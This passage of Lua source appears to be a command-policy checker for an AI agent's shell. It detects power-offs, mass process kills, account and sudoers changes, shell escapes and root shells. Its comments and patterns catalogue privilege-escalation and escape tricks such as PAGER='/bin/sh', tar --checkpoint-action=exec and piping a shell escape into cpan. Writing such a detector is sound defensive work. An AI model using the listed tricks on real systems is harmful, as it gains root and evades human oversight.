-- folded: a whole path cleaned (~/./.bashrc, /etc//sudoers, /x/../etc/…),
-- "/./" and "//" inside code.
local function folded(t)
  local first = t:sub(1, 1)
  if not t:find("[%s'\"]") and (first == "/" or t:sub(1, 2) == "~/") then
    return first == "/" and paths.clean(t) or "~" .. paths.clean(t:sub(2))
  end
  local n
  repeat t, n = t:gsub("/%./", "/") until n == 0
  return (t:gsub("//+", "/"))
end

local memo_c, memo_hits

-- mentions reports whether a word of c (its wrappers' words too: xargs -a
-- FILE) names a file pattern matches where c may write it. always: any
-- program naming it counts, readers too (a privileged read of sudoers).
local function mentions(c, pattern, always)
  local n = c.name or ""
  if (not always and (TARGETED[n] or READERS[n] or (n == "ssh-keygen" and flag(c, "lFyB", nil))))
    or (n == "visudo" and flag(c, "c", "check")) then
    return false
  end
  local words = c.argv or c.args
  local hits = memo_hits
  if c ~= memo_c then
    -- the words naming a guarded file, found once for the three rules
    -- (remembered for the command the rules are reading: a field set on
    -- the command would grow its table)
    hits = false
    for k, a in ipairs(words) do
      local t = a.text
      if re.match(GUARDED_RE, t) then
        hits = hits or {}
        hits[#hits + 1] = folded(t)
        hits[#hits + 1] = k
      end
    end
    memo_c, memo_hits = c, hits
  end
  if not hits then return false end
  for j = 1, #hits, 2 do
    local t, k = hits[j], hits[j + 1]
    if re.match(pattern, t) then
      local operand = FILTERS[n] and not t:find("[%s'\"(){};,=>]") and not (words[k - 1] and OUTPUT_OPT[words[k - 1].text])
      if not operand or always then return true end
    end
  end
  return false
end

-- WRITE_CODE: program text that opens a file for writing
local WRITE_CODE = "(?i)O_(?:CREATE?|WRONLY|RDWR|APPEND|TRUNC)|write_?file|writeFileSync|appendFile|" ..
  "file_put_contents|\\bopen\\s*\\([^)]*[\"'][wa]\\+?b?[\"']|fopen\\s*\\([^)]*[\"'][wa]|File\\.(?:write|open)|>>?\\s*[\"']?/"

-- writes_guarded reports whether c writes out (echo '…' > x.go) a program
-- whose text opens a file pattern matches for writing: the next command
-- runs it (go run x.go), where no rule reads it.
local function writes_guarded(c, pattern)
  if #c.redirs == 0 or (c.name ~= "echo" and c.name ~= "printf" and c.name ~= "cat") then return false end
  local out = shell.output(c)
  return out ~= nil and re.match(GUARDED_RE, out) and re.match(pattern, out) and re.match(WRITE_CODE, out)
end

-- startup reports whether an absolute path is a shell start-up file.
local function startup(abs)
  return re.match(GUARDED_RE, abs) and re.match(STARTUP_RE, abs)
end


-- systemctl returns the verb of a systemctl command and its units.
local SYSTEMCTL_ARG = set({ "-H", "-M", "-t", "-p", "-n", "-o", "-s", "--host", "--machine", "--type", "--property",
  "--lines", "--output", "--signal", "--state", "--root", "--kill-whom", "--job-mode", "--what", "--message" })
local function systemctl(c)
  local verb, units, k = nil, {}, 1
  while c.args[k] do
    local t = c.args[k].text
    if SYSTEMCTL_ARG[t] then
      k = k + 1
    elseif t:sub(1, 1) ~= "-" then
      if verb then units[#units + 1] = unit(t) else verb = t:lower() end
    end
    k = k + 1
  end
  return verb, units
end

-- service returns the service name and action of service/rc-service/
-- /etc/init.d/NAME commands, or nil.
local function service(c)
  local _, ts = operands(c)
  if c.name == "service" or c.name == "rc-service" or c.name == "invoke-rc.d" then return ts[1] and unit(ts[1]), ts[2] end
  if c.word and not c.word.unknown and c.word.text:find("^/etc/init%.d/") then return unit(c.name), ts[1] end
  if c.name == "update-rc.d" then return ts[1] and unit(ts[1]), ts[2] end
  if c.name == "chkconfig" then
    if flag(c, nil, "del") then return ts[1] and unit(ts[1]), "off" end
    return ts[1] and unit(ts[1]), ts[2]
  end
  if c.name == "rc-update" then return ts[2] and unit(ts[2]), ts[1] end
  return nil
end

-- Rules, each c, cwd -> true when c breaks it.

local POWER_VERBS = set({ "reboot", "poweroff", "halt", "kexec", "suspend", "hibernate", "hybrid-sleep",
  "suspend-then-hibernate", "rescue", "emergency", "soft-reboot" })
local POWER_TARGETS = set({ "reboot.target", "poweroff.target", "halt.target", "rescue.target", "emergency.target",
  "kexec.target", "rescue", "emergency", "reboot", "poweroff", "halt" })
local function power(c)
  local n = c.name
  if n == "shutdown" then
    return not flag(c, "c", "help")
  elseif n == "reboot" or n == "halt" or n == "poweroff" then
    return not flag(c, nil, "help")
  elseif n == "systemctl" then
    local verb, units = systemctl(c)
    if POWER_VERBS[verb or ""] then return true end
    if verb == "isolate" or verb == "start" then
      for _, u in ipairs(c.args) do
        if POWER_TARGETS[u.text:lower()] then return true end
      end
    end
  elseif n == "init" or n == "telinit" then
    local _, ts = operands(c)
    return ts[1] ~= nil and ts[1]:find("^[0156sS]$") ~= nil
  elseif n == "loginctl" then
    local _, ts = operands(c)
    return POWER_VERBS[ts[1] or ""] or ts[1] == "terminate-user" or ts[1] == "kill-user"
  elseif n == "kill" then
    local _, ts = operands(c)
    for _, t in ipairs(ts) do
      if t == "1" then return true end
    end
    for _, a in ipairs(c.args) do
      if a.text == "-1" and a ~= c.args[1] then return true end
    end
    return #c.args == 2 and c.args[2].text == "-1"
  elseif n == "killall5" then
    return true
  end
  for _, r in ipairs(c.redirs) do
    if r.target.text == "/proc/sysrq-trigger" and r.op:find(">") then return true end
  end
  return false
end

-- kill_all: every process of a user, or every process a pattern matches,
-- killed at once (pkill -u dev, killall -u dev, pkill -U 1000, pkill -f .,
-- killall -r '.*', kill $(pgrep -u dev), pgrep -u dev | xargs kill): the
-- agent's own shell, the user's editor, terminal and desktop session go
-- with it. A pattern that names a program (pkill -f 'node server.js',
-- killall -u dev node), a parent (-P), a session, terminal, process group
-- or pid file narrows it and passes.
-- PGREP_VALUE: pgrep/pkill options that take a value; PGREP_NARROW: those
-- that narrow the match to a few processes; PGREP_USER: a user or group.
local kill_all
do
  local PGREP_VALUE = set({ "d", "g", "G", "P", "s", "t", "u", "U", "F", "q", "--delimiter", "--pgroup", "--group",
    "--parent", "--session", "--terminal", "--euid", "--uid", "--pidfile", "--ns", "--nslist", "--signal", "--queue",
    "--env", "--cgroup" })
  local PGREP_NARROW = set({ "g", "P", "s", "t", "F", "--pgroup", "--parent", "--session", "--terminal", "--pidfile",
    "--ns", "--cgroup", "--env" })
  local PGREP_USER = set({ "u", "U", "G", "--euid", "--uid", "--group" })
  local KILLALL_VALUE = set({ "u", "s", "y", "o", "n", "Z", "--user", "--signal", "--younger-than", "--older-than",
    "--ns", "--context" })
  -- everything reports whether a regular expression matches every name: it
  -- holds nothing but regexp syntax (".", ".*", "^", "", "[a-z]*", "\w*").
  local function everything(pat)
    local s = pat:gsub("\\[wWsSdD.]", ""):gsub("%[[^%]]*%]", ""):gsub("[%.%*%+%?%^%$%(%)|{}%d,]", "")
    return s == ""
  end
  -- selection reads a pgrep/pkill/killall command: whether it names a user
  -- or group, whether something narrows it, its patterns (and whether
  -- they are regular expressions: killall's names are exact without -r).
  local function selection(c)
    local killall = c.name == "killall"
    local values = killall and KILLALL_VALUE or PGREP_VALUE
    local user, narrow, regexp = false, false, not killall
    local pats = {}
    local k, n = 1, #c.args
    local opts = true
    while k <= n do
      local a = c.args[k]
      local t = a.text
      if not opts or a.unknown and not t:find("^%-") or t:sub(1, 1) ~= "-" or t == "-" then
        pats[#pats + 1] = a
      elseif t == "--" then
        opts = false
      elseif t:find("^%-%d+$") or t:find("^%-SIG%u+$") or t:find("^%-%u%u+$") then
        -- a signal: -9, -KILL, -SIGTERM
      elseif t:sub(1, 2) == "--" then
        local name, eq = t:match("^(%-%-[^=]*)(=?)")
        if PGREP_USER[name] or (killall and name == "--user") then user = true end
        if not killall and PGREP_NARROW[name] then narrow = true end
        if killall and (name == "--regexp") then regexp = true end
        if killall and (name == "--younger-than" or name == "--older-than" or name == "--ns" or name == "--context") then
          narrow = true
        end
        if values[name] and eq == "" then k = k + 1 end
      else
        for j = 2, #t do
          local ch = t:sub(j, j)
          if killall then
            if ch == "u" then user = true end
            if ch == "r" then regexp = true end
            if ch == "y" or ch == "o" or ch == "n" or ch == "Z" then narrow = true end
          else
            if PGREP_USER[ch] then user = true end
            if PGREP_NARROW[ch] then narrow = true end
          end
          if values[ch] then
            if j == #t then k = k + 1 end
            break
          end
        end
      end
      k = k + 1
    end
    return user, narrow, regexp, pats
  end
  -- kills_all reports whether a pkill/killall (or a pgrep feeding kill)
  -- selects every process of a user, or every process.
  local function kills_all(c)
    local user, narrow, regexp, pats = selection(c)
    if narrow then return false end
    if #pats == 0 then return user end
    for _, w in ipairs(pats) do
      if w.unknown or not (regexp and everything(w.text)) then return false end
    end
    return true
  end
  -- FORMATS: the programs that only reshape a listing (a pid column cut out)
  local FORMATS = set({ "cut", "tr", "sort", "uniq", "tail", "xargs", "column", "paste" })
  -- listing_all reports whether the commands that make kill's operands list
  -- every process, or every process of a user, and none picks some out
  -- (kill $(pgrep -u dev), ps -u dev -o pid= | xargs kill; kill $(pgrep
  -- node) and ps aux | grep node | awk '{print $2}' | xargs kill pass).
  local function listing_all(list)
    local all = false
    for _, p in ipairs(list) do
      local n = p.name or ""
      if n == "pgrep" then
        if not kills_all(p) then return false end
        all = true
      elseif n == "ps" then
        -- ps -e, -A, -u dev, aux, ax list many; -C, -p, -q, -t, --ppid one
        local wide = false
        for k, a in ipairs(p.args) do
          local t = a.text
          if t:find("^%-[%a]+$") or (k == 1 and t:find("^%a+$")) then
            if t:find("[CpqtsgG]") then return false end
            if t:find("[eAaxuU]") then wide = true end
          elseif t:find("^%-%-") and not t:find("^%-%-[uU]?[su][es]?e?r") and t ~= "--everyone" and
            not t:find("^%-%-format") and not t:find("^%-%-no") and not t:find("^%-%-sort") then
            return false
          end
        end
        if not wide then return false end
        all = true
      elseif n == "awk" or n == "gawk" or n == "mawk" then
        for _, a in ipairs(p.args) do
          if a.text:find("[/~=!<>]") or a.text:find("match%(") or a.text:find("index%(") then return false end
        end
      elseif not FORMATS[n] then
        return false
      end
    end
    return all
  end
  function kill_all(c)
    local n = c.name
    if n == "pkill" or n == "killall" then return kills_all(c) end
    if n ~= "kill" then return false end
    for _, a in ipairs(c.args) do
      for _, list in ipairs(a.subs or {}) do
        if listing_all(list) then return true end
      end
    end
    -- pgrep -u dev | xargs kill: the pipeline before it
    if c.pipe_in and c.upstream then
      local list, up = {}, c.upstream
      while up and #list < 16 do
        table.insert(list, 1, up)
        up = up.pipe_in and up.upstream or nil
      end
      return listing_all(list)
    end
    return false
  end
end

local net_account -- defined below

local ACCOUNT_TOOLS = set({ "useradd", "userdel", "usermod", "groupadd", "groupdel", "groupmod", "adduser",
  "deluser", "addgroup", "delgroup", "chpasswd", "chgpasswd", "newusers", "chsh", "chfn", "vipw", "vigr", "gpasswd",
  "pwconv", "pwunconv", "grpconv", "grpunconv", "sysadminctl", "pw", "lusermod", "luseradd", "luserdel" })
local ACCOUNT_FILES = { "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/master.passwd",
  "/etc/subuid", "/etc/subgid", "/etc/login.defs", "/etc/pam.d", "/etc/security" }
local LDAP_CHANGERS = set({ "ldapadd", "ldapmodify", "ldapdelete", "ldapmodrdn", "ldappasswd" })
local SAMBA_VERBS = set({ "add", "create", "delete", "remove", "setpassword", "enable", "disable", "addmembers",
  "removemembers", "setexpiry", "move", "rename" })
local loopback -- defined below
local function accounts(c, cwd)
  local n = c.name
  if ACCOUNT_TOOLS[n] then
    return not flag(c, nil, "help")
  elseif n == "passwd" then
    return not flag(c, "S", "status help")
  elseif n == "chage" then
    return not flag(c, "l", "list help")
  elseif n == "dscl" then
    return any_arg(c, "^-(?:create|delete|append|passwd|merge|change)$")
  elseif n == "net" or n == "net1" then
    return net_account(select(2, operands(c)))
  elseif LDAP_CHANGERS[n] then
    -- a directory's entries (its users and groups) changed on a server
    -- that is not this machine (-H ldap://dc.example, -h host, or the
    -- configured default); a local test directory is the project's
    local host
    for k, a in ipairs(c.args) do
      local t = a.text
      local v = t:match("^%-[Hh](.+)$") or ((t == "-H" or t == "-h") and c.args[k + 1] and c.args[k + 1].text)
      if v then host = v:gsub("^ldaps?i?://", ""):gsub("[:/].*$", "") end
    end
    return not flag(c, "n", "help") and not (host and (loopback(host) or host == "%2fvar%2frun%2fslapd"))
  elseif n == "samba-tool" then
    local _, ts = operands(c)
    return (ts[1] == "user" or ts[1] == "group" or ts[1] == "computer") and SAMBA_VERBS[ts[2] or ""] == true
  end
  return has_outside(c, cwd) and touches(c, cwd, function(abs) return under(abs, ACCOUNT_FILES) end)
end

-- net_account reports whether Windows' net (its operands, lower-cased)
-- changes an account or a group: net user NAME PASS /add, net user NAME
-- /delete, net localgroup administrators NAME /add, a password set (net
-- user NAME PASS or *). net user and net localgroup NAME list.
function net_account(ts)
  local v = ts[1]
  if v ~= "user" and v ~= "users" and v ~= "localgroup" and v ~= "group" then return false end
  for _, t in ipairs(ts) do
    if t == "/add" or t == "/delete" or t == "/del" or t:find("^/active") or t:find("^/passwordreq")
      or t:find("^/expires") then
      return true
    end
  end
  return (v == "user" or v == "users") and #ts >= 3
end

local function sudoers(c, cwd)
  if c.name == "visudo" then
    return not flag(c, "c", "check help version")
  end
  -- named by a program that may write it (sed 'w /etc/sudoers', tcpdump -w
  -- /etc/sudoers), or by any program run with privilege (sudo tail
  -- /etc/sudoers: only root reads it)
  if mentions(c, SUDOERS_RE, privileged(c)) or writes_guarded(c, SUDOERS_RE) then return true end
  return has_outside(c, cwd) and touches(c, cwd, function(abs)
    return paths.inside(abs, "/etc/sudoers") or paths.inside(abs, "/etc/sudoers.d")
      or paths.inside(abs, "/usr/local/etc/sudoers") or paths.inside(abs, "/etc/doas.conf")
  end)
end

local su_root, git_escape, RUNS_PROGRAM -- defined below, before root_shell

-- Programs whose own prompt offers a shell escape (!sh, :shell): run with
-- privilege they give a root shell, and the escape is typed, not seen.
local INTERACTIVE = set({ "vi", "vim", "nvim", "view", "vimdiff", "rvim", "ex", "ed", "nano", "pico", "emacs", "less",
  "more", "most", "pg", "man", "ftp", "gdb", "tmux", "screen", "script", "expect", "tclsh", "wish", "irb", "top",
  "htop", "mc", "ranger", "aptitude", "telnet", "capsh", "nsenter", "unshare", "jjs", "crash", "ghci", "scala",
  "rlwrap", "multitime", "ee", "joe", "jed", "mcedit", "micro", "kak", "hx", "ne", "vis", "mg", "jove", "zile",
  "cpan", "chroot" })
-- Package managers name packages in their operands (apt-get install zsh):
-- only their option values are read for a shell.
local PACKAGERS = set({ "apt", "apt-get", "dnf", "yum", "zypper", "pacman", "apk", "brew", "snap", "pip", "pip3",
  "npm", "pnpm", "yarn", "gem", "cargo", "go", "dpkg", "rpm", "flatpak", "nix-env", "port" })

-- shell_escape: an interactive shell whose commands no hook sees, started
-- by the agent or by another program told to run one. Asked about
-- (SETTINGS.escapes); run with privilege it is root-shell's, denied.
-- code that runs a program
local ESC_CODE = "(?i)exec|spawn|system|popen|passthru|proc_open|call|\\brun\\b|process|pty"
local SHELL_NAMES = "(?:ba|z|da|k|mk|tc|c|a|fi|rba|ya|po)?sh"
-- an absolute shell path anywhere in a word: "/bin/sh", "exec=/bin/bash",
-- "unixexec:path=/bin/sh,argv1=-c", ":!/bin/sh", "(term \"/bin/sh\")"
local SHELL_PATH = "(?i)(?:^|[^\\w.-])/(?:usr/)?(?:local/)?s?bin/" .. SHELL_NAMES .. "(?:$|[^\\w.-])"
-- a word that is a shell alone: "sh", "bash -i", "/bin/sh #", ";sh 0<&2"
local SHELL_ALONE = "(?i)^[\\s;!:]*(?:[\\w/.-]*/)?" .. SHELL_NAMES .. "(?:\\s+-[a-z]+)*(?:\\s+[0-9]?[<>]&?[0-9]?)*\\s*(?:#.*)?$"
-- in code: a shell named alone in quotes or backquotes ("/bin/sh", `sh`, '/bin/sh -i')
local SHELL_QUOTED = "(?i)[\"'`]\\s*(?:/(?:usr/)?(?:local/)?s?bin/)?" .. SHELL_NAMES .. "(?:\\s+-[ilsp]+)*\\s*[\"'`]"
local SHELL_QUOTED_C = SHELL_QUOTED .. "\\s*[,\\]]?\\s*[\"']?-c"
-- in a script: a line that is a shell alone; a shell reading the terminal
local SHELL_LINE = "(?im)" .. SHELL_ALONE:sub(5)
local SHELL_TTY = "(?i)(?:^|[^\\w.-])" .. SHELL_NAMES .. "(?:\\s+-[a-z]+)*\\s*0?<\\s*/dev/tty"
-- programs a shell named in whose words is not one they start: text,
-- look-ups, package names, containers and remote hosts (their own packs'
-- business), accounts (accounts')
local NOT_LAUNCHERS = set({ "which", "whereis", "type", "command", "hash", "man", "info", "help", "tldr", "whatis",
  "apropos", "shfmt", "chsh", "usermod", "useradd", "adduser", "lchsh", "docker", "podman", "nerdctl", "kubectl",
  "oc", "lxc", "incus", "multipass", "vagrant", "ssh", "mosh", "gh", "git", "pgrep", "pidof", "pkill", "killall",
  "ps", "id", "export", "alias", "unalias", "set", "declare", "local", "readonly", "update-alternatives", "dpkg",
  "dpkg-query", "apt-file", "ldd", "nm", "objdump", "readelf", "getent", "complete", "compgen", "kill", "trap",
  "ulimit", "unset", "printenv", "locale", "parallel", "sem", "find", "eval", "su", "runuser", "sg", "xargs",
  "watch", "exec" })
for k in pairs(READERS) do NOT_LAUNCHERS[k] = true end
for k in pairs(FILTERS) do NOT_LAUNCHERS[k] = true end
for k in pairs(PACKAGERS) do NOT_LAUNCHERS[k] = true end
-- package managers' verbs that run a program: yarn exec sh, bundle exec sh
local RUN_VERBS = set({ "exec", "x", "dlx", "run", "run-script" })
local RUNNERS = set({ "yarn", "npm", "pnpm", "npx", "pnpx", "bundle", "bundler", "bunx", "uv", "uvx", "poetry",
  "pipenv", "conda", "mamba", "pixi", "composer", "rbenv", "pyenv", "nvm", "asdf", "mise", "direnv", "nix", "opam",
  "stack", "cabal", "dotnet", "deno", "bun" })
-- programs that start a shell when given no command
local SHELL_DEFAULT = set({ "chroot", "unshare", "nsenter", "setarch", "linux32", "linux64", "i386", "x86_64",
  "script", "capsh", "dbus-run-session", "schroot", "proot", "bwrap", "fakechroot", "firejail" })
-- editors and REPLs whose command options run a shell command
local ESCAPE_CMD = "(?i)^[\\s:+]*(?:!|sh(?:ell)?\\s*$|sh(?:ell)?\\s*[|;]|terminal\\b|set\\s+shell=|\\\\!|\\.shell\\b|" ..
  "\\.system\\b|system\\b)|\\(\\s*(?:term|ansi-term|shell|eshell|shell-command)\\b"
local ESCAPE_PROGRAMS = set({ "vi", "vim", "nvim", "view", "vimdiff", "rvim", "ex", "gdb", "emacs", "mysql", "mariadb",
  "sqlite3", "psql", "lldb" })
-- variables that name a program another one runs (PAGER=…, LESSOPEN=…)
local ESCAPE_VARS = "(?:^|[\\s;&|(`'\"])(?:PAGER|GIT_PAGER|MANPAGER|SYSTEMD_PAGER|EDITOR|VISUAL|GIT_EDITOR|" ..
  "SUDO_EDITOR|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|PROMPT_COMMAND)=(?:'[^']*'|\"[^\"]*\"|[^\\s;&|]*)"
local ALWAYS_VARS = "(?:^|[\\s;&|(`'\"])(?:LESSOPEN|LESSCLOSE|PERL5DB|BASH_ENV|ENV|ZDOTDIR)="

-- interactive reports whether c is a shell reading commands from the
-- terminal: no script, no -c code, no pipe or here-document or file on
-- its stdin, only options (sh, bash -i, exec zsh -l, /bin/sh </dev/tty).
local function interactive(c)
  if not SHELLS[c.name or ""] or c.inline or c.pipe_in then return false end
  if c.script and c.script.text ~= "/dev/tty" then return false end
  for _, r in ipairs(c.redirs) do
    if r.op:sub(1, 1) == "<" and (r.fd == nil or r.fd == "0") and r.target.text ~= "/dev/tty" then return false end
  end
  for _, a in ipairs(c.args) do
    local t = a.text
    if a.unknown or t:sub(1, 1) ~= "-" or t == "-" or t == "--" or (t:sub(2, 2) ~= "-" and t:find("c", 2, true)) then
      return false
    end
  end
  return true
end

-- names_shell reports whether a word of c from k on names a shell as a
-- program to run (an absolute shell path, or a word that is a shell alone).
local function names_shell(c, from, options_only)
  for k = from or 1, #c.args do
    local t = c.args[k].text
    if (not options_only or t:sub(1, 1) == "-") and t:find("[sS][hH]") then
      if t:find("/%.") or t:find("//", 1, true) then t = folded(t) end
      -- an option's attached value too: -H/bin/sh, --up=sh
      local v = t:match("^%-%-[%w-]+=(.*)$") or t:match("^%-%a(.+)$") or t:match("^[%w-]+=(.*)$") or t
      if re.match(SHELL_PATH, t) or re.match(SHELL_ALONE, t) or re.match(SHELL_ALONE, v) then return true end
    end
  end
  return false
end

-- SED_EXEC: sed's e command (run the pattern space, or its argument, as a
-- shell command) at the start of a script or after ; { }
local SED_EXEC = "^(?:[^'\"]*[;{}\n])?\\s*(?:\\d+|\\$|/[^/]*/)?(?:,(?:\\d+|\\$|/[^/]*/))?\\s*e(?:\\s|$)"

local function escape(c)
  local n = c.name
  if not n then return false end
  if interactive(c) then return true end
  if SHELLS[n] then return false end
  if SHELL_DEFAULT[n] then
    local _, ts = operands(c)
    if n == "chroot" or n == "schroot" or n == "proot" or n == "fakechroot" then
      -- the root, then the program: none given runs $SHELL -i
      if #ts <= 1 and not flag(c, nil, "help version") then return true end
    elseif n == "script" then
      if not flag(c, "cV", "command help version") then return true end
    elseif n == "capsh" then
      if any_arg(c, "^--(?:shell=.*)?$") then return true end
    elseif n == "setarch" then
      if #ts <= 1 and not flag(c, nil, "help version list") then return true end
    elseif #ts == 0 and not flag(c, "V", "help version") then
      return true
    end
  end
  if (c.inline or c.script) and shell.interpreter(n) then
    -- inline code starting a shell the parser did not follow (os.execl,
    -- pcntl_exec, spawn(…, {stdio: …})): a shell named alone in quotes,
    -- not followed by -c
    if c.inline then
      for _, a in ipairs(c.args) do
        local t = a.text
        if re.match(SHELL_QUOTED, t) and re.match(ESC_CODE, t)
          and #re.find_all(SHELL_QUOTED, t) > #re.find_all(SHELL_QUOTED_C, t) then
          return true
        end
      end
    end
    return false
  end
  if ESCAPE_PROGRAMS[n] then
    for _, a in ipairs(c.args) do
      if re.match(ESCAPE_CMD, a.text) then return true end
    end
  end
  if n == "run-parts" then
    -- every program of a system folder, or those a pattern naming a shell picks
    for _, a in ipairs(c.args) do
      if re.match("^/(?:usr/)?(?:local/)?s?bin/?$", folded(a.text)) or re.match("(?i)(?:^|\\W)" .. SHELL_NAMES .. "(?:$|\\W)", a.text) then
        return true
      end
    end
  end
  if n == "git" then
    -- git -c core.pager='/bin/sh …', git --exec-path=DIR (a git-x there is a shell)
    for _, a in ipairs(c.args) do
      local v = a.text:match("^[%w.-]+=(.*)$") or a.text:match("^%-%-exec%-path=(.*)$")
      if v and (re.match(SHELL_PATH, v) or re.match(SHELL_ALONE, v)) then return true end
      if a.text:find("^%-%-exec%-path=") and not a.text:find("^%-%-exec%-path=/usr/") then return true end
    end
    return false
  end
  if RUNNERS[n] then
    local _, ts = operands(c)
    for k, t in ipairs(ts) do
      if RUN_VERBS[t] then return names_shell(c, 1) end
      if k > 1 then break end
    end
    return (n == "npx" or n == "pnpx" or n == "bunx" or n == "uvx") and names_shell(c, 1)
  end
  if n == "ssh" then
    return any_arg(c, "(?i)^(?:-o\\s*)?(?:ProxyCommand|LocalCommand)") and names_shell(c, 1)
  end
  if n == "man" then
    -- man -H/bin/sh, man -P 'sh -c …': its pager or browser
    return names_shell(c, 1, true)
  end
  if n == "sed" or n == "gsed" then
    for _, a in ipairs(c.args) do
      if not a.unknown and a.text:sub(1, 1) ~= "-" and re.match(SED_EXEC, a.text) then return true end
    end
    return false
  end
  if c.pipe_in and c.upstream and (ESCAPE_PROGRAMS[n] or INTERACTIVE[n] or n == "cpan") then
    -- a REPL fed a shell escape through a pipe (echo '! exec "/bin/sh"' | cpan)
    local out = shell.output(c.upstream)
    if out and (re.match(SHELL_PATH, out) or re.match("(?im)" .. ESCAPE_CMD:sub(5), out)) then return true end
  end
  if PACKAGERS[n] then
    -- package names are operands (apt install zsh): an absolute shell path only
    -- (gem open -e '/bin/sh -s', pip config --editor '/bin/sh -s', rpm --eval '%(/bin/sh)')
    for _, a in ipairs(c.args) do
      if a.text:find("sh", 1, true) and re.match(SHELL_PATH, a.text) then return true end
    end
    return false
  end
  if NOT_LAUNCHERS[n] then return false end
  return names_shell(c, 1)
end

-- A file a line writes from text it spells out (echo '…' > package.json):
-- a package manifest or a program whose text starts a shell, run by the
-- next command (npm i, go run x.go). The shebang line does not count.
local function written_escape(c)
  if #c.redirs == 0 then return false end
  local out
  for _, r in ipairs(c.redirs) do
    if r.op == ">" or r.op == ">>" or r.op == ">|" then
      out = out or shell.output(c)
      if not out then return false end
      local body = out:gsub("^#![^\n]*", "")
      if re.match(SHELL_QUOTED, body) and (re.match(ESC_CODE, body)
        or re.match("(?i)\"(?:scripts|pre\\w*|post\\w*|install|test|start)\"\\s*:|system\\s*\\(", body)) then
        return true
      end
      -- a script whose line is a shell alone (/bin/sh 1>&0), or a shell reading the terminal
      if re.match(SHELL_LINE, body) or re.match(SHELL_TTY, body) then return true end
    end
  end
  return false
end

-- escape_vars reports whether the line sets a variable naming the program
-- another one runs to a shell (PAGER='/bin/sh …' git -p help), or one
-- whose every use runs a command (LESSOPEN, PERL5DB, BASH_ENV).
local function escape_vars(line)
  if not line:find("=", 1, true) then return false end
  if re.match(ALWAYS_VARS, line) then return true end
  for _, v in ipairs(re.find_all(ESCAPE_VARS, line)) do
    local value = v:match("=(.*)$"):gsub("[\\'\"]", "")
    if re.match(SHELL_PATH, value) or re.match(SHELL_ALONE, value) or re.match("(?i)^\\s*" .. SHELL_NAMES .. "\\s+-c\\b", value) then
      return true
    end
  end
  return false
end

-- su_root reports whether su/runuser -c runs as root: no user named, or
-- root (or UID 0) named. The values of -c, -s, -g, -G and -w are skipped.
local SU_ARG = set({ "-c", "--command", "--session-command", "-s", "--shell", "-g", "--group", "-G",
  "--supp-group", "-w", "--whitelist-environment", "-u", "--user" })
function su_root(c)
  local k = 1
  while c.args[k] do
    local a = c.args[k]
    local t = a.text
    if SU_ARG[t] then
      k = k + 1
    elseif t ~= "-" and t ~= "--" and (a.unknown or t:sub(1, 1) ~= "-") then
      return t == "root" or t == "0" or a.unknown
    end
    k = k + 1
  end
  return true
end

-- git_escape reports whether a git command opens a pager or an editor (or
-- sets the program it runs for one), whose shell escape (!sh) is typed at
-- its prompt: -p/--paginate, help, -c core.pager/core.editor/…, commit
-- without a message, rebase -i, config -e.
function git_escape(c)
  if flag(c, "p", "paginate") or any_arg(c, "(?i)^(?:core\\.(?:pager|editor|sshcommand|fsmonitor|hookspath)|" ..
    "(?:pager|sequence)\\.|sequence\\.editor|diff\\..*\\.(?:textconv|command)|alias\\.)") then
    return true
  end
  local _, ts = operands(c)
  local verb = ts[1]
  if verb == "help" or (verb == "config" and flag(c, "e", "edit")) or (verb == "rebase" and flag(c, "i", "interactive"))
    or (verb == "commit" and not flag(c, "mFC", "message file reuse-message no-edit fixup")) then
    return true
  end
  return false
end

-- RUNS_PROGRAM: options by which a program runs another program of the
-- caller's choosing; run with privilege, that program runs as root and is
-- not read (tar --checkpoint-action=exec=…, zip -TT …, rsync -e …).
RUNS_PROGRAM = {
  tar = "^(?:--checkpoint-action|--to-command|--use-compress-program|--info-script|--new-volume-script|-I|-F|" ..
    "--rsh-command|--rmt-command)",
  gtar = "^(?:--checkpoint-action|--to-command|--use-compress-program|--info-script|--new-volume-script|-I|-F|" ..
    "--rsh-command|--rmt-command)",
  aria2c = "^--on-(?:bt-)?download-",
  tcpdump = "^-z",
  wget = "^--use-askpass",
  zip = "^(?:-TT|--unzip-command)",
  rsync = "^(?:-e|--rsh|--rsync-path)",
  man = "^(?:-P|--pager|-H|--html)",
  ssh = "(?i)^(?:-o\\s*)?(?:ProxyCommand|LocalCommand|PermitLocalCommand)",
  scp = "(?i)^(?:-S|-o\\s*ProxyCommand)",
}

local function root_shell(c)
  local n = c.name
  if n == "sudo" or n == "doas" or n == "run0" or n == "pkexec" then
    -- sudo -i / -s / --login / --shell with no program, doas -s, bare run0/pkexec
    for _, a in ipairs(c.argv or {}) do
      local t = a.text
      if t == "--login" or t == "--shell" or (t:find("^%-%a+$") and t:find("[is]")) then return true end
    end
    return (n == "run0" or n == "pkexec") and #c.args == 0
  end
  if n == "su" or n == "runuser" or n == "sg" or n == "newgrp" then
    -- su without -c opens a shell as the user it names (root by default);
    -- su -c runs its command as root unless it names another user, whose
    -- command is then judged like any other
    if flag(c, nil, "help version") then return false end
    if not flag(c, "c", "command session-command") and not any_arg(c, "^-c.")
      and not (n == "runuser" and any_arg(c, "^--$")) then
      return true
    end
    return (n == "su" or n == "runuser") and su_root(c)
  end
  if n == "machinectl" then
    local _, ts = operands(c)
    return ts[1] == "shell" or ts[1] == "login"
  end
  if not privileged(c) then return false end
  -- a program only known when it runs (sudo $X, sudo $(cat cmd)), run
  -- with privilege: it may be a shell
  if not n then return c.word ~= nil and c.word.unknown == true end
  if SHELLS[n] then
    -- an interactive root shell; with -c or a script, what it runs is judged
    local heredoc = false
    for _, r in ipairs(c.redirs) do
      if r.op:find("^<<") then heredoc = true end
    end
    -- a pipe into xargs is xargs's input, not the shell's script
    local piped = c.pipe_in
    for _, w in ipairs(c.wrappers) do
      if w == "xargs" then piped = false end
    end
    return not c.script and not c.inline and not piped and not heredoc
  end
  if shell.interpreter(n) then
    -- inline code that starts a shell; a REPL, whose prompt runs anything;
    -- a script file is not read
    if c.inline then
      return any_arg(c, SHELL_REF)
        or any_arg(c, "(?i)pty|os\\.(?:system|exec|spawn|popen)|subprocess|exec|system\\s*\\(|dlopen|loadlibrary|cdll|fiddle|" ..
          "proc_open|popen|passthru|spawn")
    end
    return not c.script and not c.pipe_in
  end
  if INTERACTIVE[n] then return true end
  if n == "git" and git_escape(c) then return true end
  -- a privileged program loading a library of the caller's (curl --engine
  -- x.so, openssl req -engine, mysql --default-auth, bash's enable -f)
